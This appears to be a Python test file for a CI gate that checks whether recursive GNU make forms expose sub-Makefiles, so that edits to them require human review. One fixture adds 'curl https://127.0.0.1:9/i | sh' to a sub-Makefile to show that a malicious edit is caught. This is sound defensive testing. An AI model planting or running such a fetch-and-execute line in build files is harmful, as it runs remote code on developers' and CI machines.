"""Attack 37: the sub-folder Makefiles a recursive make runs that submakes.py (cileft63) did not name.

submakes.entered names a folder's Makefile when a makefile's `-C`/`--directory` takes a variable and an assignment or
a `for … in` list holds the folder. GNU make runs the same sub-makes with the folders written elsewhere: as the rule's
own targets (`lib app:` then `$(MAKE) -C $@`), inline in a `$(foreach d,lib app,…)`, with `cd $$d && $(MAKE)` in place
of `-C`, with `-f $$d/Makefile`, or with `-C` clustered behind other short options (`$(MAKE) -sC $@`). Each form left
`lib/Makefile` unnamed on main 9592e7c and `gate --tree --enable deps` allowed its edit; real `make -n` (which runs a
`$(MAKE)` line even when dry) runs lib/Makefile's recipe in every form.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import ciruns, submakes, walkpaths

SUB = "all:\n\t@echo lib-recipe-ran\n"
EVIL = SUB + "\tcurl https://127.0.0.1:9/i | sh\n"
# a root Makefile that runs lib/ and app/'s Makefiles; each form with the same folders
FORMS = {
    "rule targets": "all: lib app\nlib app:\n\t$(MAKE) -C $@\n.PHONY: all lib app\n",
    "rule targets, --directory=": ".PHONY: lib app\nall: lib app\nlib app:\n\t+$(MAKE) --directory=$@ all\n",
    "rule targets, $(@D)": "all: lib/all app/all\nlib/all app/all:\n\t$(MAKE) -C $(@D) all\n",
    "rule targets, pattern": "all: lib.sub app.sub\n%.sub:\n\t$(MAKE) -C $* all\n",
    "foreach inline": "all:\n\t$(foreach d,lib app,$(MAKE) -C $(d) all &&) true\n",
    "foreach inline, spaced": "all:\n\t$(foreach dir, lib app, $(MAKE) -C $(dir) all;)\n",
    "cd in a for loop": "SUBDIRS = lib app\nall:\n\tfor d in $(SUBDIRS); do (cd $$d && $(MAKE) all) || exit 1; done\n",
    "cd with braces": "SUBDIRS = lib app\nall:\n\tfor d in $(SUBDIRS); do cd $${d} && $(MAKE) all && cd ..; done\n",
    "cd to a rule target": "all: lib app\nlib app:\n\tcd $@ && $(MAKE) all\n.PHONY: all lib app\n",
    "cd, foreach": "all:\n\t$(foreach d,lib app,cd $(d) && $(MAKE) all && cd .. &&) true\n",
    "--file= in a loop": "SUBDIRS = lib app\nall:\n\tfor d in $(SUBDIRS); do $(MAKE) --file=$$d/Makefile all; done\n",
    "-f alone": "SUBDIRS = lib app\nall:\n\tset -e; for d in $(SUBDIRS); do $(MAKE) -f $$d/Makefile all; done\n",
    "clustered -sC": "SUBDIRS = lib app\n$(SUBDIRS):\n\t$(MAKE) -sC $@ all\nall: $(SUBDIRS)\n.PHONY: all $(SUBDIRS)\n",
    "clustered -kC": "all: lib app\nlib app:\n\t$(MAKE) -kwC $@ all\n.PHONY: all lib app\n",
}


def _names(text: str, helper: str) -> bool:
    scripts, _, folders = ciruns.named_in("Makefile", text)
    return any(walkpaths.reaches(p, helper) for named in scripts for p in ciruns.resolved(named, "Makefile", folders))


@each_case("form", FORMS)
def test_make_runs_the_sub_makefile(tmp_path: Path, form: str) -> None:
    """The truth: GNU make runs lib/Makefile's recipe (a `$(MAKE)` line runs under -n too)."""
    for folder in ("lib", "app"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "Makefile").write_text(SUB)
    (tmp_path / "Makefile").write_text(FORMS[form])
    done = subprocess.run(["make", "-n"], cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False)
    assert "echo lib-recipe-ran" in done.stdout, done.stdout + done.stderr


@each_case("form", FORMS)
def test_the_walk_names_the_sub_makefile(form: str) -> None:
    assert _names(FORMS[form], "lib/Makefile"), sorted(ciruns.named_in("Makefile", FORMS[form])[0])


# makefiles that name lib/ but run no make there
LOOK_ALIKES = [
    "all: lib app\nlib app:\n\techo $@\n",
    "all:\n\t$(foreach d,lib app,echo $(d);)\n",
    "SUBDIRS = lib app\nall:\n\tfor d in $(SUBDIRS); do cd $$d && ls; done\n",
    "all: lib\nlib:\n\tmkdir -p $@\n",
    "all:\n\tcd lib && echo make\n",
]


@each_case("text", LOOK_ALIKES)
def test_a_makefile_that_runs_no_sub_make_names_none(text: str) -> None:
    assert not _names(text, "lib/Makefile"), sorted(ciruns.named_in("Makefile", text)[0])


WORKFLOW = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: make all\n")


@each_case("form", ["rule targets", "foreach inline", "cd in a for loop", "clustered -sC"])
def test_the_gated_edit_needs_a_human(tmp_path: Path, form: str) -> None:
    _, first, second = two_commits(tmp_path, {".github/workflows/ci.yml": WORKFLOW, "Makefile": FORMS[form],
                                              "lib/Makefile": SUB, "app/Makefile": SUB}, {"lib/Makefile": EVIL})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision["reasons"]


# hostile makefiles: many pattern rules and targets, `cd $` runs, `-f $` without a Makefile, unclosed foreach
HOSTILE = ["%.a%.b: x%y\n", "lib app:\n\t$(MAKE) -C $@\n", "\tcd $$d; cd $$d; make\n", "\t$(MAKE) -f $$d/x -sC\n",
           "\t$(foreach d,a b c", "x" * 50 + ":" + " y" * 20 + "\n"]


@each_case("unit", HOSTILE)
def test_a_hostile_makefile_is_read_in_linear_time(unit: str) -> None:
    text = "all:\n\t$(MAKE) -C $@\n"
    assert_linear(submakes.entered, repeated(unit, text), budget=0.25)
